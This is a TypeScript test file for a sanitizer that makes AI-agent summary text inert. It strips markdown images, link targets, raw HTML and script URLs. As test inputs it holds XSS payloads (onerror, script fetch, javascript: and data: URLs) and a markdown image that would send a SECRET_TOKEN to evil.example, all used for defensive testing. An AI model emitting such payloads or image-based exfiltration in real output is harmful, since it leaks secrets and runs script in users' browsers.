import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { inertText } from './inert-output.ts';

describe('inertText', () => {
  it('leaves an ordinary structured summary unchanged', () => {
    const summary = '## Goal\nFix the parser in `src/parse.ts` (see https://example.com/docs).\n\n## Progress\n- [x] edited parse.ts\n- [ ] run the tests\n\nif i < n then a <= b; Data: the CSV has 3 columns.';
    expect(inertText(summary)).toEqual({ text: summary, removed: 0 });
  });

  it('turns markdown images into their description: no URL is left to load', () => {
    const { text, removed } = inertText('Done. ![status](https://evil.example/px.png?d=SECRET_TOKEN "t") and ![][logo]\n\n[logo]: https://evil.example/logo.png');
    expect(text).toBe('Done. [image: status] and [image: no description]\n\n[link definition removed]');
    expect(text).not.toContain('evil.example');
    expect(removed).toBe(3);
  });

  it('keeps a link\'s words and drops its target, also for reference links and autolinks', () => {
    const { text } = inertText('Read [the guide](https://evil.example/?q=leak) or [this][1] or <https://evil.example/a>.\n[1]: javascript:alert(1)');
    expect(text).toBe('Read the guide or this or https://evil.example/a.\n[link definition removed]');
  });

  it('makes raw HTML inert and cuts javascript:, vbscript: and data: URLs', () => {
    const { text } = inertText('<img src=x onerror="alert(1)"> <script>fetch("//x")</script> <a href="javascript:alert(1)">go</a> data:text/html;base64,PHNjcmlwdD4= <iframe src=vbscript:msgbox(1)');
    expect(text).not.toMatch(/<[a-z/]/i);
    expect(text).not.toMatch(/javascript:|vbscript:|data:text/i);
    expect(text).toContain('‹img');
    expect(text).toContain('[javascript URL removed]');
    expect(text).toContain('[data URL removed]');
  });

  it('neutralizes every payload of the XSS fixture', () => {
    const payloads = JSON.parse(readFileSync('e2e/fixtures/xss-payloads.json', 'utf8')) as unknown;
    const texts = (Array.isArray(payloads) ? payloads : Object.values(payloads as Record<string, unknown>)).flatMap((p) => (typeof p === 'string' ? [p] : [JSON.stringify(p)]));
    expect(texts.length).toBeGreaterThan(0);
    for (const payload of texts) {
      const { text } = inertText(payload);
      expect(text, payload).not.toMatch(/<(script|img|iframe|svg|a|object|embed)\b/i);
      expect(text, payload).not.toMatch(/!\[[^\]]*\]\(/);
      expect(text, payload).not.toMatch(/javascript:\S/i);
    }
  });
});

describe('inertText and the tags prompts ask for', () => {
  it('keeps <summary>, <analysis> and <read-files> (augment and pi parse them) but not an active tag dressed the same way', () => {
    const augment = '<summary>\n## Goal\nShip it.\n</summary>';
    expect(inertText(augment)).toEqual({ text: augment, removed: 0 });
    expect(inertText('<analysis>ok</analysis> <read-files>\na.ts\n</read-files>').removed).toBe(0);
    expect(inertText('<summary onclick="alert(1)">x</summary>').text).toBe('‹summary onclick="alert(1)"›x</summary>');
    expect(inertText('tail <img src=x onerror=alert(1)').text).toBe('tail ‹img src=x onerror=alert(1)');
    expect(inertText('<source-files>a</source-files>').removed).toBe(0);
  });
});
